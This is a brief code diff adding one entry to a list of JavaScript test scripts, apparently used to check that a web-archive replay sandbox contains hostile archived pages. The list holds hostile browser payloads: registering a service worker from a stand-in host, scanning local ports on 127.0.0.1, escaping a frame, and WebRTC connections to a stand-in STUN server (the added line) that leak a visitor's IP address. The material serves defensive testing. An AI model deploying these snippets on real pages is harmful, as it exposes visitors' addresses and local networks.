@@ -49,6 +49,7 @@ _SCRIPTS = (
     "navigator.serviceWorker.register('/web/20210501110100js_/http://hostile.test/sw.js')", "alert(1)", "document.documentElement.requestFullscreen()",
     "for(let p=1;p<20;p++){new Image().src='http://127.0.0.1:'+(9000+p)+'/'}", "top.postMessage({wb_type:'load',url:'javascript:hacked=1',ts:'20210501110100'},'*')",
     "new RTCPeerConnection({iceServers:[{urls:'stun:leak.test'}]}).createDataChannel('x')", "history.pushState(0,0,'/fake')",
+    "let c=new RTCPeerConnection({iceServers:[{urls:'stun:leak.test'}]});c.createDataChannel('x');c.createOffer().then(o=>c.setLocalDescription(o))",
     "if(top!==self)top.location=self.location",
 )  # fmt: skip
 _RUN = (
